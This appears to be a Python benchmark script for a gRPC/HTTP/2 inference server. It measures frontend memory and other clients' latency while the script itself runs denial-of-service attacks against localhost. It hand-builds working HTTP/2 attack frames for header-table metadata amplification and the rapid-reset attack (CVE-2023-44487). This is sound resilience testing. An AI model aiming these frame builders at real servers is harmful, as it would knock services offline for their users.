"""Attacks over HTTP/2 on a server that has others to serve: what they cost in memory, and the others in time.

    python benchmarks/serving/parts/attacks.py [--seconds 8]

`metadata`: 15 connections, each with a field of 4,000 bytes in its table and 4,090 calls of ModelInfer that
name it 15 times and send no data. `metadata that is read`: the same with a field that the server must keep.
`resets`: calls of ServerLive, which Python answers, that are reset as soon as they are sent (CVE-2023-44487).
Whoever is left comes again at once, until the time is over. Meanwhile plain requests come over HTTP.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(1, str(Path(__file__).resolve().parents[1]))

from _ours import metrics, workers
from _shared import Row, caption, circumstances, parser, say, show
from load import offer
from peers import Ours, Running, Settings
from processes import stat

RATE = 100.0  # requests/s of the others
MEMORY_MIB = 1024.0  # a bar
P99_MS = 50.0  # a bar, of the others
CONNECTIONS = 15
CALLS = 4090
REFERENCES = 15
LOOK_S = 0.05
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS = 1
DATA = 0
RESET = 3
SETTINGS = 4
END_HEADERS = 4
END_STREAM = 1
SERVICE = "/inference.GRPCInferenceService"
GREETING = PREFACE + b"\0\0\0" + bytes([SETTINGS]) + bytes(5)


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def literal(name: str, value: str, kept: bool = False) -> bytes:
    size = len(value)
    sized = bytes([size]) if size < 127 else bytes([127, (size - 127) & 127 | 128, (size - 127) >> 7])
    return (b"\x40" if kept else b"\0") + bytes([len(name)]) + name.encode() + sized + value.encode()


def call_head(method: str) -> bytes:
    named = literal(":path", f"{SERVICE}/{method}"), literal("content-type", "application/grpc")
    return b"\x83\x86" + b"".join(named)


def metadata_attack(name: str) -> bytes:
    """All that one connection sends."""
    head = call_head("ModelInfer")
    first = frame(HEADERS, END_HEADERS, 1, head + literal(name, "v" * 4000, kept=True))
    streams = range(3, 2 * CALLS + 3, 2)
    again = head + REFERENCES * b"\xbe"
    return GREETING + first + b"".join(frame(HEADERS, END_HEADERS, stream, again) for stream in streams)


def reset_attack() -> bytes:
    head = call_head("ServerLive")
    message = bytes(5)
    calls = (
        frame(HEADERS, END_HEADERS, stream, head)
        + frame(DATA, END_STREAM, stream, message)
        + frame(RESET, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 40_001, 2)
    )
    return GREETING + b"".join(calls)


def attack(port: int, data: bytes, connections: int, seconds: float) -> int:
    """Attack for so long; return how many connections that took."""
    end = time.monotonic() + seconds
    counts = [0] * connections
    threads = [
        threading.Thread(target=come_again, args=(port, data, end, counts, at)) for at in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts)


def come_again(port: int, data: bytes, end: float, counts: list[int], at: int) -> None:
    while time.monotonic() < end:
        counts[at] += 1
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5.0) as connection:
            connection.settimeout(max(0.1, end - time.monotonic()))
            connection.sendall(data)
            while connection.recv(1 << 16):
                pass
        time.sleep(0.01)


ATTACKS: dict[str, Callable[[int, float], int]] = {
    "metadata": lambda port, seconds: attack(port, metadata_attack("x-any"), CONNECTIONS, seconds),
    "metadata that is read": lambda port, seconds: attack(
        port, metadata_attack("x-astrarium-application"), CONNECTIONS, seconds
    ),
    "resets": lambda port, seconds: attack(port, reset_attack(), 1, seconds),
}


@dataclass
class Watched:
    """What was seen of a server meanwhile: its frontend's memory, and how long it took to say `ready`."""

    memory_mib: list[float] = field(default_factory=list)
    ready_ms: list[float] = field(default_factory=list)


@contextmanager
def watching(server: Running) -> Iterator[Watched]:
    frontend = workers(server)[0].parent
    seen = Watched()
    over = threading.Event()

    def look() -> None:
        while not over.wait(LOOK_S):
            began = time.monotonic()
            with urllib.request.urlopen(f"{server.url}/v2/health/ready", timeout=30) as reply:
                reply.read()
            seen.ready_ms.append(1e3 * (time.monotonic() - began))
            process = stat(frontend)
            seen.memory_mib.append(process.rss / 2**20 if process else 0.0)

    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield seen
    finally:
        over.set()
        thread.join()


def attacks(server: Running, seconds: float) -> list[Row]:
    return [row for name in ATTACKS for row in attacked(server, name, seconds)]


def attacked(server: Running, name: str, seconds: float) -> list[Row]:
    say(f"{name} for {seconds:g} s beside {RATE:g} requests/s ...")
    before = metrics(server.url).get("astrarium_connections_left_total", 0.0)
    with watching(server) as seen:
        quiet = offer(server.url, server.templates, RATE, 2.0)
        first = seen.memory_mib[-1]
        connections: list[int] = []
        attacker = threading.Thread(
            target=lambda: connections.append(ATTACKS[name](server.place.grpc_port, seconds))
        )
        attacker.start()
        run = offer(server.url, server.templates, RATE, seconds - 2.0)
        attacker.join()
        time.sleep(5.0)  # memory goes back within some seconds
        kept = seen.memory_mib[-1] - first
    left = metrics(server.url).get("astrarium_connections_left_total", 0.0) - before
    return [
        Row(f"{name}: memory of the frontend, at most", "MiB", [max(seen.memory_mib)], MEMORY_MIB, True),
        Row(f"{name}: of which is kept afterwards", "MiB", [kept]),
        Row(f"{name}: the others' p99", "ms", [run.latency_ms.p99], P99_MS, True),
        Row(f"{name}: the others' p99 before", "ms", [quiet.latency_ms.p99]),
        Row(f"{name}: others without an answer", "", [run.timeouts + run.network_errors], 0.0, True),
        Row(f"{name}: /v2/health/ready, at most", "ms", [max(seen.ready_ms)]),
        Row(f"{name}: connections that attacked", "", [float(sum(connections))]),
        Row(f"{name}: connections that were left", "", [left]),
    ]


def main() -> None:
    flags = parser(__doc__)
    flags.add_argument("--seconds", type=float, default=8.0, help="of each attack, 8 unless given")
    options = flags.parse_args()
    load_before = circumstances(options.date, 0.0)["load_after"]
    with Ours().running(1, Settings()) as server:
        rows = attacks(server, options.seconds)
    show(rows)
    print(caption(circumstances(options.date, load_before)))


if __name__ == "__main__":
    main()
